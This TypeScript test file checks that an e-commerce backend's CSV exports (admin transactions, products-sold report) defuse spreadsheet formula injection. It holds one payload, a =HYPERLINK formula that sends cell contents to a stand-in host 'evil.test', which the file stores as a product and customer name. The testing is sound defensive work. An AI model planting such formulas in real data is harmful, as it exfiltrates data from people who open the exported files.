import { eq } from "drizzle-orm";
import { beforeAll, describe, expect, it } from "vitest";
import { users } from "../src/modules/identity/identity.table.js";
import { createTestApp, type TestApp } from "./app.js";
import { makeBuyableProduct, makeBuyer, makeSeller } from "./factories/cart.js";
import { placePaidOrder } from "./factories/orders.js";
import { makeAdmin, type MerchantPerson, type Person } from "./factories/people.js";

/** A name a spreadsheet would run: it must reach every CSV export as text (a leading `'`). */
const EVIL = '=HYPERLINK("http://evil.test/?x="&A1,"Click")';
const DEFUSED = `"'${EVIL.replaceAll('"', '""')}"`;

let t: TestApp;
let admin: Person;
let seller: MerchantPerson;

beforeAll(async () => {
  t = await createTestApp();
  admin = await makeAdmin(t);
  seller = await makeSeller(t, { storeName: "Formula Store" });
  const product = await makeBuyableProduct(t, seller, { name: EVIL, sellingPrice: 5_000 });
  const buyer = await makeBuyer(t, product.id, 1);
  await t.db.update(users).set({ firstName: EVIL, lastName: "" }).where(eq(users.id, buyer.userId));
  await placePaidOrder(t, buyer);
});

describe("CSV exports defuse spreadsheet formulas", () => {
  it("the transactions export writes a customer named =HYPERLINK(...) as text", async () => {
    const res = await t.call("GET", "/api/v1/transactions/admin?format=csv", { token: admin.token });
    expect(res.statusCode).toBe(200);
    expect(res.headers["content-type"]).toMatch(/^text\/csv/);
    const line = res.body.split("\r\n")[1];
    expect(line).toContain(DEFUSED);
    expect(line).not.toMatch(/(^|,)=HYPERLINK/);
  });

  it("the products-sold report writes a product named =HYPERLINK(...) as text", async () => {
    const day = t.clock.now().toISOString().slice(0, 10);
    const res = await t.call("GET", `/api/v1/reports/products-sold?startDate=${day}&endDate=${day}&format=csv`, { token: seller.token });
    expect(res.statusCode).toBe(200);
    expect(res.body.split("\r\n")[1]).toBe(`${DEFUSED},1,5000.00`);
  });
});
